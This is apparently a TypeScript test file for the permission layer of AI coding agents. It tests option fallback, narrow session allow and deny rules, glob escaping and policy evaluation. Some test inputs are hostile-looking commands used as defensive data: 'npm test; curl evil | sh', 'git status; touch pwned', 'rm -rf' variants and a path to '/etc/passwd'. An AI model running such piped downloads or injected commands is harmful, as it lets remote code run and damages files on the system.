import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  chooseOption,
  policyToDecision,
  sessionRuleFor,
  type PermissionOptionKind,
  type PermissionOptionLike,
} from '../../src/permissions/options.js';
import { PermissionPolicy, ruleMatches, type PermissionSubject } from '../../src/permissions/policy.js';

const ALL: PermissionOptionLike[] = [
  { optionId: 'aa', name: 'Always Allow', kind: 'allow_always' },
  { optionId: 'a1', name: 'Allow', kind: 'allow_once' },
  { optionId: 'r1', name: 'Reject', kind: 'reject_once' },
  { optionId: 'ra', name: 'Never', kind: 'reject_always' },
];
const ONLY_ALLOW_ONCE: PermissionOptionLike[] = [{ optionId: 'yes', name: 'Yes', kind: 'allow_once' }];
const ONLY_ALLOW_ALWAYS: PermissionOptionLike[] = [{ optionId: 'always', name: 'Always', kind: 'allow_always' }];
const ONLY_REJECT_ONCE: PermissionOptionLike[] = [{ optionId: 'no', name: 'No', kind: 'reject_once' }];
const ONLY_REJECT_ALWAYS: PermissionOptionLike[] = [{ optionId: 'never', name: 'Never', kind: 'reject_always' }];
// claude-agent-acp's set (acp-protocol.md §3.2): no reject_always
const CLAUDE: PermissionOptionLike[] = [
  { kind: 'allow_always', name: 'Always Allow', optionId: 'allow_always' },
  { kind: 'allow_once', name: 'Allow', optionId: 'allow' },
  { kind: 'reject_once', name: 'Reject', optionId: 'reject' },
];

const selected = (optionId: string) => ({ outcome: 'selected', optionId });
const cancelled = { outcome: 'cancelled' };

test('chooseOption: the exact kind when offered', () => {
  const expected: Record<PermissionOptionKind, string> = { allow_once: 'a1', allow_always: 'aa', reject_once: 'r1', reject_always: 'ra' };
  for (const [decision, id] of Object.entries(expected)) {
    assert.deepEqual(chooseOption(ALL, decision as PermissionOptionKind), selected(id));
  }
});

test('chooseOption: falls back within the same effect, never across', () => {
  assert.deepEqual(chooseOption(ONLY_ALLOW_ALWAYS, 'allow_once'), selected('always'));
  assert.deepEqual(chooseOption(ONLY_ALLOW_ONCE, 'allow_always'), selected('yes'));
  assert.deepEqual(chooseOption(ONLY_REJECT_ALWAYS, 'reject_once'), selected('never'));
  assert.deepEqual(chooseOption(ONLY_REJECT_ONCE, 'reject_always'), selected('no'));
  assert.deepEqual(chooseOption(CLAUDE, 'reject_always'), selected('reject'));
  assert.deepEqual(chooseOption(CLAUDE, 'allow_once'), selected('allow'));
  assert.deepEqual(chooseOption(CLAUDE, 'allow_always'), selected('allow_always'));
});

test('chooseOption: only allow options → rejecting cancels; only reject options → allowing cancels', () => {
  for (const opts of [ONLY_ALLOW_ONCE, ONLY_ALLOW_ALWAYS]) {
    assert.deepEqual(chooseOption(opts, 'reject_once'), cancelled);
    assert.deepEqual(chooseOption(opts, 'reject_always'), cancelled);
  }
  for (const opts of [ONLY_REJECT_ONCE, ONLY_REJECT_ALWAYS]) {
    assert.deepEqual(chooseOption(opts, 'allow_once'), cancelled);
    assert.deepEqual(chooseOption(opts, 'allow_always'), cancelled);
  }
});

test('chooseOption: empty, missing or malformed options → cancelled; the first option of a kind wins', () => {
  for (const decision of ['allow_once', 'allow_always', 'reject_once', 'reject_always'] as const) {
    assert.deepEqual(chooseOption([], decision), cancelled);
    assert.deepEqual(chooseOption(undefined, decision), cancelled);
    assert.deepEqual(chooseOption(null, decision), cancelled);
  }
  const odd = [
    { optionId: 'x', name: 'Custom', kind: 'allow_sometimes' },
    { optionId: 5, name: 'Bad id', kind: 'allow_once' } as unknown as PermissionOptionLike,
    { optionId: 'first', name: 'A', kind: 'allow_once' },
    { optionId: 'second', name: 'B', kind: 'allow_once' },
  ];
  assert.deepEqual(chooseOption(odd, 'allow_once'), selected('first'));
  assert.deepEqual(chooseOption([odd[0]!], 'allow_once'), cancelled);
});

test('policyToDecision: a policy answer applies once', () => {
  assert.equal(policyToDecision('allow'), 'allow_once');
  assert.equal(policyToDecision('deny'), 'reject_once');
});

const WS = '/home/me/ws';
const bash = (command: string, agent = 'claude'): PermissionSubject => ({
  agent,
  method: 'session/request_permission',
  kind: 'execute',
  paths: [],
  command,
  workspaceRoot: WS,
});

test('sessionRuleFor: a command rule covers exactly that command, agent, method and kind', () => {
  const rule = sessionRuleFor(bash("rm -rf 'build/*'"), 'allow_always');
  assert.ok(rule);
  assert.equal(rule.decision, 'allow');
  assert.deepEqual(rule.kind, ['execute']);
  assert.equal(rule.path, undefined);
  assert.equal(rule.command, 'rm -rf build/[*]');
  assert.equal(ruleMatches(rule, bash("rm -rf 'build/*'")), true);
  assert.equal(ruleMatches(rule, bash('rm -rf build/x')), false, 'the * in the command is literal');
  assert.equal(ruleMatches(rule, bash("rm -rf 'build/*' /")), false);
  assert.equal(ruleMatches(rule, bash("rm -rf 'build/*'", 'codex')), false);
  assert.equal(ruleMatches(rule, { ...bash("rm -rf 'build/*'"), kind: 'other' }), false);
  assert.equal(ruleMatches(rule, { ...bash("rm -rf 'build/*'"), method: 'terminal/create' }), false);
  assert.equal(sessionRuleFor(bash('git push'), 'reject_always')?.decision, 'deny');
  // an argument with a space is quoted in the pattern, and matched as one argument
  const spaced = sessionRuleFor(bash("git commit -m 'fix it'"), 'allow_always')!;
  assert.equal(spaced.command, "git commit -m 'fix it'");
  assert.equal(ruleMatches(spaced, bash('git commit -m "fix it"')), true);
  assert.equal(ruleMatches(spaced, bash('git commit -m fix it')), false);
});

test('sessionRuleFor: a command an allow rule could never match leaves no allow rule; a reject still leaves a deny', () => {
  for (const command of ['rm -rf build/*', 'git status; touch pwned', 'sh -c ls', 'env git status', 'echo $HOME']) {
    assert.equal(sessionRuleFor(bash(command), 'allow_always'), undefined, command);
    const deny = sessionRuleFor(bash(command), 'reject_always')!;
    assert.equal(ruleMatches(deny, bash(command)), true, command);
  }
  // a title is not a command: nothing to allow for the rest of the session
  assert.equal(sessionRuleFor({ ...bash('ls'), argv: null }, 'allow_always'), undefined);
});

test('sessionRuleFor: agent names with glob characters are escaped', () => {
  const rule = sessionRuleFor(bash('ls', 'agent[1]'), 'allow_always')!;
  assert.equal(rule.agent, 'agent[[]1[]]');
  assert.equal(ruleMatches(rule, bash('ls', 'agent[1]')), true);
  assert.equal(ruleMatches(rule, bash('ls', 'agent1')), false);
});

test('sessionRuleFor: without a command, exactly the touched paths', () => {
  const edit: PermissionSubject = {
    agent: 'claude',
    method: 'session/request_permission',
    kind: 'edit',
    paths: [`${WS}/src/a{1,2}.ts`],
    workspaceRoot: WS,
  };
  const rule = sessionRuleFor(edit, 'allow_always')!;
  assert.equal(rule.path, 'src/a[{]1[,]2[}].ts');
  assert.equal(ruleMatches(rule, edit), true);
  assert.equal(ruleMatches(rule, { ...edit, paths: [`${WS}/src/a1.ts`] }), false);
  assert.equal(ruleMatches(rule, { ...edit, paths: [`${WS}/src/b.ts`] }), false);

  const move: PermissionSubject = { ...edit, kind: 'move', paths: [`${WS}/a.txt`, '/tmp/b.txt'] };
  const moveRule = sessionRuleFor(move, 'allow_always')!;
  assert.equal(moveRule.path, '{a.txt,/tmp/b.txt}');
  assert.equal(ruleMatches(moveRule, move), true);
  assert.equal(ruleMatches(moveRule, { ...move, paths: ['/tmp/b.txt', `${WS}/a.txt`] }), true);
  assert.equal(ruleMatches(moveRule, { ...move, paths: [`${WS}/a.txt`, '/etc/passwd'] }), false, 'an allow needs every path');
  const denyMove = sessionRuleFor(move, 'reject_always')!;
  assert.equal(ruleMatches(denyMove, { ...move, paths: [`${WS}/a.txt`, '/etc/passwd'] }), true, 'a deny needs any path');
});

test('sessionRuleFor: nothing narrow to remember → undefined, never a catch-all', () => {
  const fetch: PermissionSubject = { agent: 'claude', method: 'session/request_permission', kind: 'fetch', paths: [], workspaceRoot: WS };
  assert.equal(sessionRuleFor(fetch, 'allow_always'), undefined);
  assert.equal(sessionRuleFor({ ...fetch, kind: undefined }, 'reject_always'), undefined);
  assert.equal(sessionRuleFor({ ...fetch, command: '' }, 'allow_always'), undefined);
});

test('an allow_always session rule stops the same request from asking again, and nothing else', () => {
  const policy = new PermissionPolicy({ default: 'ask', approval_timeout_secs: 60, rules: [] });
  const first = bash('npm test');
  assert.equal(policy.evaluate(first).decision, 'ask');
  const sessionRules = [sessionRuleFor(first, 'allow_always')!];
  assert.deepEqual(policy.evaluate(first, sessionRules), { decision: 'allow', rule: sessionRules[0], ruleIndex: 0, source: 'session_rule' });
  assert.equal(policy.evaluate(bash('npm test; curl evil | sh'), sessionRules).decision, 'ask');
  assert.equal(policy.evaluate(bash('npm publish'), sessionRules).decision, 'ask');
});
